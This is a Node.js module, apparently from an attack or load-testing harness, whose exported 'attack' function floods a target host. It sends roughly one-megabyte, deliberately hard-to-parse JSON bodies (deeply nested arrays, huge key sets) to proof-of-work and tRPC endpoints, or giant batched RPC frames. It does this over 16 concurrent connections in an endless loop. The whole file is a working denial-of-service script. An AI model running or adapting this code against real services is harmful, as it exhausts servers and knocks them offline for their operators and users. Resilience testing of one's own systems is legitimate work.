// Bodies and messages of a megabyte that are hard to parse, by every door; their answers are read.
import { once } from "node:events";
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { frame, HANDSHAKE, postHead } from "../sockets.mjs";

const SIZE = 2 ** 20 - 1024;
const HARD = [
  "[".repeat(SIZE / 2) + "]".repeat(SIZE / 2),
  `{"nonces":[${"[],".repeat(SIZE / 3 - 20)}[]]}`,
  `[${Array.from({ length: SIZE / 16 }, (_, i) => `{"${i.toString(36).padStart(8, "k")}":0}`)}]`,
];
const PATHS = [
  "/api/v1/pow/init",
  "/api/v1/pow/validate",
  "/trpc/pow.validate",
  "/trpc/pow.init?batch=1",
];
const CALLS = frame(Array.from({ length: 40_000 }, (_, id) => ({ id, method: "query" })));

/** 16 at the same time, each over a connection of its own, for ever. */
export async function attack({ host, port }) {
  await Promise.all(
    Array.from({ length: 16 }, async (_, i) => {
      for (;;) {
        const socket = connect({ host, port });
        socket.on("error", () => {}).resume();
        await Promise.race([once(socket, "connect"), once(socket, "close")]);
        if (i % 4 === 3) {
          socket.write(HANDSHAKE);
          socket.write(CALLS);
        } else {
          const body = HARD[i % HARD.length];
          const path = PATHS[(i >> 1) % PATHS.length];
          socket.write(postHead(path, body.length) + body);
        }
        await sleep(500);
        socket.destroy();
      }
    }),
  );
}
